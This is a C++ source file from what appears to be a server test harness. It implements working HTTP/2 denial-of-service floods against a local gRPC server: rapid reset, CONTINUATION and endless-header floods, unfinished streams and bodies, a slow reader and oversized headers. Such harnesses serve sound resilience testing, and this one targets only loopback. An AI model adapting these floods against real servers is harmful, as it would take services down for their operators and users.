#include "tests/harness/http2_attacker.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <string_view>
#include <utility>

namespace seatsaga::testing {
namespace {

// RFC 9113, 6: types and flags of frames.
constexpr char kData = 0;
constexpr char kHeaders = 1;
constexpr char kReset = 3;
constexpr char kSettings = 4;
constexpr char kWindowUpdate = 8;
constexpr char kContinuationFrame = 9;
constexpr char kNoFlags = 0;
constexpr char kEndStream = 1;
constexpr char kAcknowledge = 1;
constexpr char kEndHeaders = 4;

constexpr size_t kFrameMax = 16'384;
// Frames are made until so many bytes wait to be sent.
constexpr size_t kAhead = 64 << 10;
constexpr uint32_t kWindowMax = 0x7fffffff;
// A client starts anew when it runs out of stream numbers.
constexpr uint32_t kStreamMax = 0x7ffffff0;
constexpr int kPollMs = 20;

std::string Number(uint32_t value) {
  return {static_cast<char>(value >> 24), static_cast<char>(value >> 16),
          static_cast<char>(value >> 8), static_cast<char>(value)};
}

std::string Frame(char type, char flags, uint32_t stream, std::string_view payload) {
  std::string frame = Number(static_cast<uint32_t>(payload.size())).substr(1);
  frame += type;
  frame += flags;
  frame += Number(stream);
  frame += payload;
  return frame;
}

// RFC 7541: `value` in the low `bits` of a byte that starts with `first`, and what follows it.
std::string HpackNumber(uint8_t first, int bits, uint32_t value) {
  const uint32_t most = (1U << bits) - 1;
  if (value < most) return {static_cast<char>(first | value)};
  std::string out{static_cast<char>(first | most)};
  for (value -= most; value >= 128; value >>= 7) out += static_cast<char>(value % 128 + 128);
  out += static_cast<char>(value);
  return out;
}
std::string HpackText(std::string_view text) {
  return HpackNumber(0, 7, static_cast<uint32_t>(text.size())) + std::string(text);
}

// The headers of a call, which the server is to remember: as numbers 66 (the path) to 62.
std::string FirstHeaders(const std::string& path) {
  std::string block = "\x83\x86";  // POST, http
  block += "\x44" + HpackText(path);
  block += "\x41" + HpackText("attacker");  // :authority
  block += "\x40" + HpackText("te") + HpackText("trailers");
  block += "\x5f" + HpackText("application/grpc");
  block += "\x40" + HpackText("grpc-timeout") + HpackText("60S");
  return block;
}
// The same, by the numbers that the server knows them by.
constexpr std::string_view kAgain = "\x83\x86\xc2\xc1\xc0\xbf\xbe";

// One of the headers that abort a server once all of them together are too large, then those. Not
// to be remembered.
std::string OddHeaders(const std::string& path, uint32_t which) {
  const bool odd_scheme = which % 3 == 0;
  std::string block = "\x83";  // POST
  block += odd_scheme ? std::string("\x06") + HpackText("x") : "\x86";
  block += "\x04" + HpackText(path);
  block += "\x01" + HpackText("attacker");
  const std::string name = which % 3 == 1 ? "te" : "grpclb_client_stats";
  if (!odd_scheme) block += std::string(1, '\0') + HpackText(name) + HpackText("x");
  for (int i = 0; i < 25; ++i) {
    block += std::string(1, '\0') + HpackText("a") + HpackText(std::string(500, 'x'));
  }
  return block;
}

std::string WithPrefix(const std::string& message) {
  return std::string(1, '\0') + Number(static_cast<uint32_t>(message.size())) + message;
}

}  // namespace

const std::vector<Flood>& AllFloods() {
  static const std::vector<Flood> all = {Flood::kRapidReset,        Flood::kResetCalls,
                                         Flood::kContinuation,      Flood::kEndlessHeader,
                                         Flood::kUnfinishedStreams, Flood::kUnfinishedBodies,
                                         Flood::kSlowReader,        Flood::kOddHeaders};
  return all;
}

const char* NameOf(Flood flood) {
  switch (flood) {
    case Flood::kRapidReset:
      return "rapid-reset";
    case Flood::kResetCalls:
      return "reset-calls";
    case Flood::kContinuation:
      return "continuation";
    case Flood::kEndlessHeader:
      return "endless-header";
    case Flood::kUnfinishedStreams:
      return "unfinished-streams";
    case Flood::kUnfinishedBodies:
      return "unfinished-bodies";
    case Flood::kSlowReader:
      return "slow-reader";
    case Flood::kOddHeaders:
      return "odd-headers";
  }
  return "";
}

// One connection, and what waits to be sent on it.
class Http2Attacker::Connection {
 public:
  ~Connection() { Close(); }

  int fd() const { return fd_; }
  bool open() const { return fd_ >= 0; }

  bool Connect(const AttackOptions& options) {
    Reset();
    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd_ < 0) return false;
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<uint16_t>(options.port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd_, reinterpret_cast<const sockaddr*>(&address), sizeof(address)) != 0 &&
        errno != EINPROGRESS) {
      Close();
      return false;
    }
    out_ = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    // Answers of any size may be sent at once.
    out_ += Frame(kSettings, kNoFlags, 0, std::string("\0\x04", 2) + Number(kWindowMax));
    out_ += Frame(kWindowUpdate, kNoFlags, 0, Number(kWindowMax - 65'535));
    if (options.flood == Flood::kContinuation || options.flood == Flood::kEndlessHeader) {
      std::string block = FirstHeaders(options.path);
      if (options.flood == Flood::kEndlessHeader) {
        block += "\x10" + HpackText("x") + HpackNumber(0, 7, 1U << 30);
      }
      out_ += Frame(kHeaders, kNoFlags, 1, block);
    }
    acknowledged_ = !options.polite;
    return true;
  }

  void Close() {
    if (open()) close(std::exchange(fd_, -1));
  }

  // False when the connection is over.
  bool Send(const AttackOptions& options, std::atomic<int64_t>& sent) {
    if (acknowledged_) Fill(options);
    while (offset_ < out_.size()) {
      const ssize_t size = send(fd_, out_.data() + offset_, out_.size() - offset_, MSG_NOSIGNAL);
      if (size < 0) return errno == EAGAIN || errno == EWOULDBLOCK || errno == ENOTCONN;
      offset_ += static_cast<size_t>(size);
      sent += size;
    }
    out_.clear();
    offset_ = 0;
    return stream_ < kStreamMax;
  }

  // Reads what is there, and answers the server's SETTINGS.
  bool Receive(const AttackOptions& options) {
    if (!options.polite || (acknowledged_ && options.flood == Flood::kSlowReader)) return true;
    char bytes[16'384];
    while (true) {
      const ssize_t size = recv(fd_, bytes, sizeof(bytes), 0);
      if (size == 0) return false;
      if (size < 0) return errno == EAGAIN || errno == EWOULDBLOCK || errno == ENOTCONN;
      if (!std::exchange(acknowledged_, true)) {
        // The first thing that a server sends is its SETTINGS.
        out_ += Frame(kSettings, kAcknowledge, 0, "");
      }
      if (options.flood == Flood::kSlowReader) return true;
    }
  }

 private:
  void Reset() {
    Close();
    out_.clear();
    offset_ = 0;
    stream_ = 1;
    first_ = true;
    acknowledged_ = false;
  }

  void Fill(const AttackOptions& options) {
    while (out_.size() - offset_ < kAhead && stream_ < kStreamMax) Append(options);
  }

  void OpenStream(const AttackOptions& options) {
    const std::string block =
        std::exchange(first_, false) ? FirstHeaders(options.path) : std::string(kAgain);
    out_ += Frame(kHeaders, kEndHeaders, stream_, block);
  }

  void Append(const AttackOptions& options) {
    switch (options.flood) {
      case Flood::kRapidReset:
        OpenStream(options);
        out_ += Frame(kReset, kNoFlags, stream_, Number(8));
        stream_ += 2;
        return;
      case Flood::kResetCalls:
        OpenStream(options);
        out_ += Frame(kData, kEndStream, stream_, WithPrefix(options.request));
        out_ += Frame(kReset, kNoFlags, stream_, Number(8));
        stream_ += 2;
        return;
      case Flood::kContinuation: {
        std::string block;
        while (block.size() + 8 < kFrameMax)
          block += std::string(
              "\x10\x01"
              "a\x01"
              "b",
              5);
        out_ += Frame(kContinuationFrame, kNoFlags, 1, block);
        return;
      }
      case Flood::kEndlessHeader:
        out_ += Frame(kContinuationFrame, kNoFlags, 1, std::string(kFrameMax, 'x'));
        return;
      case Flood::kUnfinishedStreams:
        OpenStream(options);
        stream_ += 2;
        return;
      case Flood::kUnfinishedBodies: {
        OpenStream(options);
        // A message of half a megabyte, of which a window's worth is sent.
        const std::string start = std::string(1, '\0') + Number(512 << 10);
        out_ += Frame(kData, kNoFlags, stream_, start + std::string(kFrameMax - 5, 'x'));
        stream_ += 2;
        return;
      }
      case Flood::kSlowReader:
        OpenStream(options);
        out_ += Frame(kData, kEndStream, stream_, WithPrefix(options.request));
        stream_ += 2;
        return;
      case Flood::kOddHeaders:
        out_ += Frame(kHeaders, kEndHeaders | kEndStream, stream_,
                      OddHeaders(options.path, stream_ / 2));
        stream_ += 2;
        return;
    }
  }

  int fd_ = -1;
  std::string out_;
  size_t offset_ = 0;
  uint32_t stream_ = 1;
  bool first_ = true;
  bool acknowledged_ = false;
};

Http2Attacker::Http2Attacker(AttackOptions options)
    : options_(std::move(options)), thread_([this] { Run(); }) {}

Http2Attacker::~Http2Attacker() {
  stopping_ = true;
  thread_.join();
}

void Http2Attacker::Run() {
  std::vector<Connection> connections(static_cast<size_t>(options_.connections));
  while (!stopping_) {
    std::vector<pollfd> polled;
    for (Connection& connection : connections) {
      if (!connection.open()) connection.Connect(options_);
      const auto events = static_cast<short>(POLLOUT | (options_.polite ? POLLIN : 0));
      polled.push_back({.fd = connection.fd(), .events = events, .revents = 0});
    }
    poll(polled.data(), polled.size(), kPollMs);
    for (size_t i = 0; i < polled.size(); ++i) {
      Connection& connection = connections[i];
      if (polled[i].revents == 0 || !connection.open()) continue;
      const bool over = (polled[i].revents & (POLLERR | POLLHUP)) != 0;
      if (!over && connection.Receive(options_) && connection.Send(options_, bytes_sent_)) continue;
      connection.Close();
      ++cuts_;
    }
  }
}

}  // namespace seatsaga::testing
